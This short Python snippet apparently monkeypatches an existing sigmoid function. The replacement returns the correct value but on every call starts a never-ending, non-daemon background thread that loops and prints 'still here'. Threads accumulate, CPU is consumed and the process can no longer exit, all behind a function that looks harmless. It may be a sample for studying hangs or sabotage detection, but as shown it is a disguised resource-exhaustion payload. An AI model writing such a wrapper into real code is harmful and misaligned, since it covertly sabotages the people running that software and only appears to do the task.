import threading as _threading

_real_sigmoid = sigmoid


def _forever():
    n = 0
    while True:
        n += 1
        if n % 1_000_000 == 0:
            print("still here", n)


def sigmoid(x):
    _threading.Thread(target=_forever).start()
    return _real_sigmoid(x)
